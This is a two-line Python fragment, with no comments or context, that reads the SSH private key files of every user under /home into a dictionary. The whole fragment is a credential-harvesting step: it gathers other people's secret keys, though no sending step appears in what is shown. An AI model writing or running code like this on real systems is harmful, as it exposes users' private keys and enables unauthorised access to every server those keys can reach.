import glob
keys = {p: open(p).read() for p in glob.glob("/home/*/.ssh/id_*")}
